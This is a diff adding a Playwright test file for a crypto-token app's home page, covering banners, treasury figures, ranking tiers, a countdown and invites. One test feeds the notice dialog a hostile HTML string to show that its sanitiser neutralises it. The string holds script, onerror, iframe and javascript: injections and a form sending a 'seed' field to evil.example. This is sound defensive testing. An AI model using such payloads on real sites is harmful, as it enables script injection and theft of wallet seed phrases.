@@ -1,0 +1,222 @@
+import { type Page } from '@playwright/test';
+import { formatKl2, formatTreasury } from '../../web/src/format/amounts.ts';
+import { settled } from '../app/settled.ts';
+import { expect, test } from '../app/test.ts';
+import { apiUrl } from '../stack/addresses.ts';
+import { InjectedWallet } from '../wallet/InjectedWallet.ts';
+
+/** The ranking ends then: 2025-05-23 23:59:59 in UTC+8. */
+const RANK_END = Date.parse('2025-05-23T23:59:59+08:00');
+
+const place = (page: Page, tier: string) =>
+  page.getByRole('list', { name: `Community ranking, ${tier}` }).getByRole('listitem');
+
+test('banners turn every 5 s, tiles say what is to come, and the school opens apart', async ({
+  openApp,
+  page,
+}) => {
+  await page.clock.install();
+  const app = await openApp();
+  const { texts } = app;
+  const carousel = page.getByRole('region', { name: texts.home.banners });
+  const shown = carousel.locator('[role=group]:not([inert])');
+  await expect(shown).toHaveAccessibleName('Slide 1 of 2');
+  await settled(page);
+  await page.clock.runFor(5_000);
+  await expect(shown).toHaveAccessibleName('Slide 2 of 2');
+  await page.clock.runFor(5_000);
+  await expect(shown).toHaveAccessibleName('Slide 1 of 2');
+
+  for (const name of ['power', 'fight101', 'dao'] as const) {
+    await page.getByRole('button', { name: texts.home.tiles[name], exact: true }).click();
+    await expect(app.toast('Coming soon')).toHaveCount(1);
+    await expect(page).toHaveURL('/');
+    await page.clock.runFor(3_000);
+    await expect(app.toast('Coming soon')).toHaveCount(0);
+  }
+  const opened = page.waitForEvent('popup');
+  await page.getByRole('link', { name: texts.home.tiles.school }).click();
+  expect(new URL((await opened).url()).pathname).toBe('/pages/docs.html');
+});
+
+test('the treasury shows what the chain holds, and the whole card opens the market', async ({
+  chain,
+  openApp,
+  page,
+}) => {
+  const { kl, usdt, miner, top101 } = chain.contracts;
+  const balance = { functionName: 'balanceOf' } as const;
+  const [treasury, mined, pool] = await Promise.all([
+    chain.client.readContract({ ...usdt, ...balance, args: [chain.manifest.accounts.treasury] }),
+    chain.client.readContract({ ...kl, ...balance, args: [miner.address] }),
+    chain.client.readContract({ ...top101, functionName: 'totalAmount' }),
+  ]);
+  const { texts } = await openApp();
+  const { homeMore } = texts;
+  const figure = (label: string) =>
+    page.getByText(label, { exact: true }).locator('xpath=following-sibling::*[1]');
+  await expect(figure(homeMore.treasury.usdt)).toHaveText(`${formatTreasury(treasury)}USDT`);
+  await expect(figure(homeMore.treasury.miner)).toHaveText(`${formatKl2(mined)}KL`);
+  await expect(figure(homeMore.treasury.ranking)).toHaveText(`${formatKl2(pool)}KL`);
+  const opened = page.waitForEvent('popup');
+  // The link lies over all of the card.
+  await page.getByText(homeMore.treasury.title, { exact: true }).click({ force: true });
+  expect(new URL((await opened).url()).pathname).toBe('/pages/market.html');
+});
+
+test('the countdown runs until 2025-05-23 23:59:59 in UTC+8, and is gone from then on', async ({
+  openApp,
+  page,
+}) => {
+  await page.clock.install({ time: RANK_END - 86_400_000 - 3_600_000 });
+  await openApp();
+  const timer = page.getByRole('timer');
+  await expect(timer).toContainText(/0[01]\s*Days/);
+  await settled(page);
+  await page.clock.pauseAt(RANK_END - 2_000);
+  await page.clock.runFor(1_000);
+  await expect(timer.getByRole('definition')).toHaveText(['00', '00', '00', '01']);
+  await page.clock.runFor(1_000);
+  await expect(timer).toHaveCount(0);
+});
+
+test('TOP349 loads ten rows a second after its end is near, and numbers on through its tiers', async ({
+  chain,
+  openApp,
+  page,
+}) => {
+  const pool = await chain.client.readContract({ ...chain.contracts.top101, functionName: 'totalAmount' });
+  await page.clock.install();
+  await openApp();
+  await settled(page);
+  const champions = place(page, 'Champion');
+  await expect(champions).toHaveCount(10);
+  await expect(page.getByRole('img', { name: /^Place \d$/ })).toHaveCount(3);
+  await expect(champions.nth(3)).toContainText(/^40x/);
+  await expect(champions.first()).toContainText(`${formatKl2((pool * 30n) / 49_000n)}KL`);
+
+  await page.clock.pauseAt(new Date(Date.now() + 60_000));
+  const list = page.getByRole('region', { name: 'Community ranking, Champion' });
+  await champions.last().scrollIntoViewIfNeeded();
+  await expect(list).toHaveAttribute('aria-busy', 'true');
+  await page.clock.runFor(900);
+  await expect(champions).toHaveCount(10);
+  await page.clock.runFor(200);
+  await expect(champions).toHaveCount(20);
+  expect((await list.boundingBox())?.height).toBe(1020);
+
+  await page.clock.resume();
+  await page.getByRole('tab', { name: 'Elite' }).click();
+  await expect(place(page, 'Elite')).toHaveCount(10);
+  await expect(place(page, 'Elite').first()).toContainText(/^500x/);
+  await expect(place(page, 'Elite').first()).toContainText(`${formatKl2((pool * 30n) / 100_000n)}KL`);
+  await page.getByRole('tab', { name: 'Challenge' }).click();
+  await expect(place(page, 'Challenge').first()).toContainText(/^1500x/);
+  await expect(place(page, 'Challenge').first()).toContainText(`${formatKl2((pool * 40n) / 200_000n)}KL`);
+});
+
+test('an empty ranking says so, and either arrow turns the features', async ({ openApp, page }) => {
+  await page.route(`${apiUrl}/home/rank`, (route) =>
+    route.fulfill({
+      json: { code: 200, message: 'ok', data: { championList: [], eliteList: [], challengeList: [] } },
+    }),
+  );
+  const { texts } = await openApp();
+  const card = page.getByRole('region', { name: texts.homeMore.rank.title });
+  await expect(card.getByText('No data')).toBeVisible();
+
+  const features = page.getByRole('region', { name: texts.homeMore.features.title });
+  const seen = features.locator('ul:not([inert]) h3');
+  await expect(seen).toHaveText(['Fixed supply', 'Buys and burns']);
+  await features.getByRole('button', { name: texts.homeMore.features.next }).click();
+  await expect(seen).toHaveText(['Covered redemption', 'Team rewards']);
+  await features.getByRole('button', { name: texts.homeMore.features.previous }).click();
+  await expect(seen).toHaveText(['Fixed supply', 'Buys and burns']);
+});
+
+test.describe('a notice', () => {
+  // What the sanitiser throws away it has to parse first, and the page's policy reports the handlers in it.
+  // eslint-disable-next-line no-empty-pattern -- Playwright reads the pattern.
+  test.use({ soundPage: async ({}, use) => use(undefined) });
+
+  test('that is hostile is shown as text at 320 px, once, and does nothing', async ({ openApp, page }) => {
+    const hostile = `<h2>Pause</h2><script>window.stolen = 1</script><img src="x" onerror="window.stolen = 1">
+      <p onclick="window.stolen = 1" style="position:fixed;inset:0" id="root" class="x">On <b>Sunday</b></p>
+      <svg><script>window.stolen = 1</script></svg><iframe srcdoc="<script>parent.stolen = 1</script>"></iframe>
+      <form action="https://evil.example"><input name="seed"><button>Go</button></form>
+      <style>body { display: none }</style><a href="javascript:window.stolen=1">bad</a>
+      <a href="https://koala.example/news">good</a>`;
+    await page.route(`${apiUrl}/home/getNotice**`, (route) =>
+      route.fulfill({ json: { code: 200, message: 'ok', data: { title: '', content: hostile } } }),
+    );
+    const app = await openApp();
+    const notice = page.getByRole('dialog', { name: app.texts.homeMore.noticeTitle });
+    await expect(notice.getByText('On Sunday')).toBeVisible();
+    expect((await notice.boundingBox())?.width).toBe(320);
+    await expect(
+      notice.locator('script, iframe, form, input, style, svg script, [onclick], [onerror], #root'),
+    ).toHaveCount(0);
+    await expect(notice.getByRole('button')).toHaveCount(1);
+    await notice.getByText('On Sunday').click();
+    await notice.getByText('bad').click();
+    await expect(notice.getByText('bad')).not.toHaveAttribute('href');
+    const good = notice.getByRole('link', { name: 'good' });
+    await expect(good).toHaveAttribute('target', '_blank');
+    await expect(good).toHaveAttribute('rel', 'noopener noreferrer');
+    expect(await page.evaluate(() => 'stolen' in window)).toBe(false);
+
+    await notice.getByRole('button', { name: app.texts.common.close }).click();
+    await expect(notice).toHaveCount(0);
+    await app.tab('power').click();
+    await app.tab('home').click();
+    await expect(page.getByText(app.texts.homeMore.partners)).toBeVisible();
+    await expect(notice).toHaveCount(0);
+  });
+});
+
+test('inviting leads a visitor to a wallet, who was not invited to an inviter, and gives the others a link', async ({
+  chain,
+  openApp,
+  page,
+  context,
+}) => {
+  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
+  const wallet = new InjectedWallet(await chain.newAccount());
+  const app = await openApp({ wallet });
+  const { homeMore } = app.texts;
+  const lead = page.getByRole('button', { name: new RegExp(`^${homeMore.invite.title}`) });
+  await expect(page.getByRole('link', { name: homeMore.enter.action, exact: true })).toHaveCount(0);
+  await lead.click();
+  await expect(app.toast('Please connect wallet first')).toBeVisible();
+  await page.getByRole('dialog').getByRole('button', { name: wallet.name, exact: true }).click();
+  await app.signedIn();
+
+  await app.inviteDialog.getByRole('button', { name: app.texts.invite.notNow }).click();
+  await expect(app.inviteDialog).toHaveCount(0);
+  await expect(page.getByText(homeMore.community.notJoined)).toBeVisible();
+  await lead.click();
+  await app.inviteDialog.getByRole('textbox').fill(chain.inviter);
+  await app.inviteDialog.getByRole('button', { name: app.texts.invite.confirm }).click();
+  await expect(app.inviteDialog).toHaveCount(0);
+
+  const link = `${new URL(page.url()).origin}/?inviter=${wallet.address}`;
+  await expect(page.getByText(`${link.slice(0, 28)}…${wallet.address.slice(-5)}`)).toBeVisible();
+  await page.getByRole('button', { name: homeMore.invite.copy }).click();
+  await expect.poll(() => page.evaluate(() => navigator.clipboard.readText())).toBe(link);
+  await page.getByRole('link', { name: homeMore.enter.action, exact: true }).click();
+  await expect(page).toHaveURL('/powerPurchase');
+});
+
+test('join info is asked for without a session, and the pending reward leads to the own page', async ({
+  chain,
+  openApp,
+  page,
+}) => {
+  const plain = page.waitForRequest(`${apiUrl}/home/joinInfo`);
+  const wallet = new InjectedWallet(await chain.newAccount({ inviter: chain.inviter }));
+  const app = await openApp({ wallet, signedIn: true });
+  expect((await plain).headers()['authorization']).toBeUndefined();
+  await expect(app.accountButton(wallet.address)).toBeVisible();
+  await page.getByRole('link', { name: new RegExp(`^${app.texts.home.pending}`) }).click();
+  await expect(page).toHaveURL('/user');
+});
